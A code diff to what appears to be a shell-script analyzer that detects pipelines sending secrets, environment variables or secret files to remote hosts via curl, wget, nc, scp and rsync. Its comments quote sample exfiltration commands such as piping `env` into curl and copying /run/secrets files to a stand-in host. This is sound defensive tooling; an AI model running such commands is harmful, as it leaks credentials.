@@ -1,9 +1,17 @@
 import { toolOf } from '../../../analysis/commands/tool.ts';
 import { mayNameSecret } from '../../../analysis/secrets/secret.ts';
 import { FILTERS } from '../../../data/programs.ts';
-import { type Command, everyPipeline, type Pipeline, type Script, type ShellWord } from '../../../model/shell.ts';
+import {
+  type Command,
+  everyPipeline,
+  type Pipeline,
+  type Redirect,
+  type Script,
+  type ShellWord,
+} from '../../../model/shell.ts';
 import { type Span, spanThrough } from '../../../model/source.ts';
 import { hostOf, isThisMachine } from '../../../model/web-address.ts';
+import { type KnownSecrets, NO_SECRETS } from './known-secrets.ts';
 
 /** What a pipeline sends to another machine, as the object of a sentence, and where. */
 export interface Sent {
@@ -19,17 +27,31 @@ const A_SECRET = 'a secret alone';
  * `env | curl -d @- https://…`, `curl -d "$(env)" https://…`, `curl -d @/run/secrets/x https://…`. A secret in a header, or as a part of what is
  * sent, is how programs log in.
  */
-export function sentSecrets({ commands }: Pipeline): Sent | undefined {
+export function sentSecrets({ commands }: Pipeline, secrets: KnownSecrets = NO_SECRETS): Sent | undefined {
   let flow: Flow | undefined;
   for (const command of commands) {
     const name = toolOf(command)?.name ?? '';
-    if (flow !== undefined && sendsInput(name, command)) return sentBy(flow, command);
-    const own = ownData(name, command);
+    const input = flow ?? inputOf(command, secrets);
+    if (input !== undefined && sendsInput(name, command)) return sentBy(input, command);
+    const own = ownData(name, command, secrets) ?? copied(name, command, secrets);
     if (own !== undefined) return { at: command.span, what: own };
-    flow = flowAfter(command, name, flow);
+    flow = flowAfter(command, name, input, secrets);
     if (flow !== undefined && connects(command)) return sentBy(flow, command);
   }
   return undefined;
+}
+
+/** The variables that a pipeline fills with a secret: `K=$(cat /run/secrets/k)`, `read K < /run/secrets/k`. */
+export function secretVariables({ commands }: Pipeline, secrets: KnownSecrets): readonly string[] {
+  return commands.flatMap((command) => {
+    const { program, assignments, arguments: words } = command;
+    const assigned = assignments.filter(({ value }) => value !== undefined && isSecretOnly(value, command, secrets));
+    const read = program === 'read' && inputOf(command, secrets) !== undefined ? words : [];
+    return [
+      ...assigned.map(({ name }) => name),
+      ...read.map(({ pieces }) => pieces).filter((name) => /^\w+$/.test(name)),
+    ];
+  });
 }
 
 /** What goes through a pipe, and the command that prints it. */
@@ -38,11 +60,30 @@ interface Flow {
   readonly start: Command;
 }
 
-function flowAfter(command: Command, name: string, before: Flow | undefined): Flow | undefined {
-  const what = printedBy(command);
-  if (what !== undefined) return { what, start: command };
-  return FILTERS.has(name) || KEEPERS.has(name) ? before : undefined;
+/** `nc … < /run/secrets/k`, `nc … <<< "$K"` */
+function inputOf(command: Command, secrets: KnownSecrets): Flow | undefined {
+  const what = command.redirects.map((one) => redirected(one, command, secrets)).find((found) => found !== undefined);
+  return what === undefined ? undefined : { what, start: command };
 }
+
+function redirected({ operator, target }: Redirect, command: Command, secrets: KnownSecrets): string | undefined {
+  if (target === undefined) return undefined;
+  if (operator === '<') return contentsOf(target.pieces, secrets);
+  return operator === '<<<' && isSecretOnly(target, command, secrets) ? A_SECRET : undefined;
+}
+
+function flowAfter(command: Command, name: string, before: Flow | undefined, secrets: KnownSecrets): Flow | undefined {
+  const what = printedBy(command, secrets);
+  if (what !== undefined) return { what, start: command };
+  return passesOn(name, command) ? before : undefined;
+}
+
+function passesOn(name: string, { arguments: [first] }: Command): boolean {
+  if (name === 'openssl' && DIGESTS.test(first?.pieces ?? '')) return false;
+  return name === '' || FILTERS.has(name) || KEEPERS.has(name);
+}
+
+const DIGESTS = /^(?:dgst|mac|pkeyutl|(?:md|sha|sm|rmd)\d)/;
 
 function sentBy({ what, start }: Flow, { span }: Command): Sent {
   return { at: spanThrough(start.span, span), what };
@@ -59,23 +100,33 @@ const KEEPERS: ReadonlySet<string> = new Set([
   'openssl',
   'xxd',
   'tar',
+  'jq',
+  'od',
+  'hexdump',
 ]);
 
 /** What a command prints. */
-function printedBy({ program, arguments: words }: Command): string | undefined {
+function printedBy(command: Command, secrets: KnownSecrets): string | undefined {
+  const { program, arguments: words } = command;
   const texts = words.map(({ pieces }) => pieces);
   if (program === 'env' || program === 'printenv' || program === 'set')
     return texts.every((text) => text === '-0' || text === '--null') ? VARIABLES : undefined;
   if (program === 'export' || program === 'declare') return /^-[px]$/.test(texts.join(' ')) ? VARIABLES : undefined;
+  if (program === 'echo' || program === 'printf')
+    return words.some((word) => isSecretOnly(word, command, secrets)) ? A_SECRET : undefined;
   if (!READERS.has(program)) return undefined;
-  return texts.map(contentsOf).find((found) => found !== undefined);
+  return texts.map((text) => contentsOf(text, secrets)).find((found) => found !== undefined);
 }
 
-const READERS: ReadonlySet<unknown> = new Set(['cat', 'tar', 'base64', 'gzip', 'zip']);
+const READERS: ReadonlySet<unknown> = new Set(
+  'cat tar base64 base32 gzip zip xz bzip2 zstd head tail tac rev cut sed awk grep xxd od hexdump strings jq'.split(
+    ' ',
+  ),
+);
 
-function contentsOf(path: string): string | undefined {
+function contentsOf(path: string, { files }: KnownSecrets): string | undefined {
   if (/^\/proc\/(?:self|1|\$\$)\/environ$/.test(path)) return VARIABLES;
-  return SECRET_FILES.test(path) ? SECRETS : undefined;
+  return SECRET_FILES.test(path) || files.has(path) ? SECRETS : undefined;
 }
 
 const SECRET_FILES =
@@ -83,51 +134,85 @@ const SECRET_FILES =
 
 /** The words with data that a program sends: those after an option, or attached to it. */
 const DATA_OPTION: ReadonlyMap<string, RegExp> = new Map([
-  ['curl', /^(?:-d|--data(?:-binary|-raw|-ascii|-urlencode)?|-F|--form|-T|--upload-file|--json)(?:=(.*)|$)/s],
-  ['wget', /^--(?:post-file|post-data|body-file|body-data)(?:=(.*)|$)/s],
+  ['curl', /^(?:-[dFT]|--(?:data(?:-binary|-raw|-ascii|-urlencode)?|form|upload-file|json)(?==|$))/],
+  ['wget', /^--(?:post-file|post-data|body-file|body-data)(?==|$)/],
 ]);
 
-function ownData(name: string, command: Command): string | undefined {
+function ownData(name: string, command: Command, secrets: KnownSecrets): string | undefined {
   const option = DATA_OPTION.get(name);
   if (option === undefined || !isForElsewhere(command.arguments)) return undefined;
   const data = dataIn(command.arguments, option);
-  const named = data.flatMap(
-    ({ pieces }) => contentsOf(pieces.replace(/^(?:--[\w-]{1,20}=)?(?:[\w-]{1,40}=)?[@<]/, '')) ?? [],
-  )[0];
-  const file = data
-    .flatMap(({ pieces }) => (/^--(?:post|body)-file=/.test(pieces) ? [pieces.slice(pieces.indexOf('=') + 1)] : []))
-    .map(contentsOf)[0];
+  const named = data.flatMap(({ pieces }) => contentsOf(pieces.replace(FILE_MARK, ''), secrets) ?? [])[0];
   const all = data.some((word) => printsVariables(word, command)) ? VARIABLES : undefined;
-  return named ?? file ?? all ?? (data.some(isSecretVariable) ? A_SECRET : undefined);
+  return named ?? all ?? (data.some((word) => isSecretOnly(word, command, secrets)) ? A_SECRET : undefined);
 }
 
-/** `"$DB_PASSWORD"`, alone; in Compose, two dollars are one. */
-function isSecretVariable({ raw }: ShellWord): boolean {
+/** `@file`, `name=@file`, `name=<file` */
+const FILE_MARK = /^(?:[\w-]{1,40}=)?[@<]/;
+
+/** `scp /run/secrets/k me@collect.example.org:`; a file after an option, such as `-i`, is how it logs in. */
+function copied(name: string, { arguments: words }: Command, secrets: KnownSecrets): string | undefined {
+  if (name !== 'scp' && name !== 'rsync') return undefined;
+  if (!/^(?:rsync:\/\/|scp:\/\/|[\w.-]{1,60}@)?[\w-]{1,60}(?:\.[\w-]{1,60}){1,9}:/.test(words.at(-1)?.pieces ?? ''))
+    return undefined;
+  const sources = words.filter(
+    ({ pieces }, at) => !pieces.startsWith('-') && words[at - 1]?.pieces.startsWith('-') !== true,
+  );
+  return sources.map(({ pieces }) => contentsOf(pieces, secrets)).find((found) => found !== undefined);
+}
+
+/** `"$DB_PASSWORD"`, `"$(cat /run/secrets/k)"`, alone. */
+function isSecretOnly(word: ShellWord, command: Command, secrets: KnownSecrets): boolean {
+  if (isSecretVariable(word, secrets)) return true;
+  const inside = /^["']?(?:\$\(.*\)|`.*`)["']?$/s.test(word.raw)
+    ? command.substitutions.find(({ script }) => isWithin(script.span, word.span))
+    : undefined;
+  return inside !== undefined && printedByAll(inside.script, secrets) === SECRETS;
+}
+
+/** In Compose, two dollars are one. */
+function isSecretVariable({ raw }: ShellWord, { variables }: KnownSecrets): boolean {
   const name = /^["']?\${1,2}\{?(\w+)\}?["']?$/.exec(raw)?.[1];
-  return name !== undefined && mayNameSecret(name);
+  return name !== undefined && (variables.has(name) || mayNameSecret(name));
 }
 
 function dataIn(words: readonly ShellWord[], option: RegExp): readonly ShellWord[] {
-  return words.filter(({ pieces }, at) => {
+  return words.flatMap((word, at) => {
+    const found = option.exec(word.pieces)?.[0];
+    if (found !== undefined && found.length < word.pieces.length) return [withoutStart(word, found)];
     const before = words[at - 1]?.pieces ?? '';
-    return (option.test(before) && !before.includes('=')) || (option.test(pieces) && pieces.includes('='));
+    return option.exec(before)?.[0] === before && before !== '' ? [word] : [];
   });
+}
+
+/** The value of an option that it is attached to: `--post-data=x`, `-dx`. */
+function withoutStart(word: ShellWord, option: string): ShellWord {
+  const start = word.pieces.charAt(option.length) === '=' ? `${option}=` : option;
+  return { ...word, pieces: word.pieces.slice(start.length), raw: word.raw.replace(start, () => '') };
 }
 
 /** `"$(env)"`, alone or through filters */
 function printsVariables({ span }: ShellWord, { substitutions }: Command): boolean {
-  return substitutions.some(({ script }) => isWithin(script.span, span) && endsWithVariables(script));
+  return substitutions.some(
+    ({ script }) => isWithin(script.span, span) && printedByAll(script, NO_SECRETS) === VARIABLES,
+  );
 }
 
 function isWithin(inner: Span, outer: Span): boolean {
   return inner.file === outer.file && outer.start <= inner.start && inner.end <= outer.end;
 }
 
-function endsWithVariables(script: Script): boolean {
-  return [...everyPipeline(script)].some(({ commands }) => {
-    const at = commands.findIndex((command) => printedBy(command) === VARIABLES);
-    return at !== -1 && commands.slice(at + 1).every((command) => KEEPERS.has(toolOf(command)?.name ?? ''));
-  });
+/** What the pipelines of a substitution print, alone or through filters. */
+function printedByAll(script: Script, secrets: KnownSecrets): string | undefined {
+  for (const { commands } of everyPipeline(script)) {
+    let flow: Flow | undefined;
+    for (const command of commands) {
+      const input = flow ?? inputOf(command, secrets);
+      flow = flowAfter(command, toolOf(command)?.name ?? '', input, secrets);
+    }
+    if (flow !== undefined) return flow.what;
+  }
+  return undefined;
 }
 
 /** Whether a program sends what it reads. */
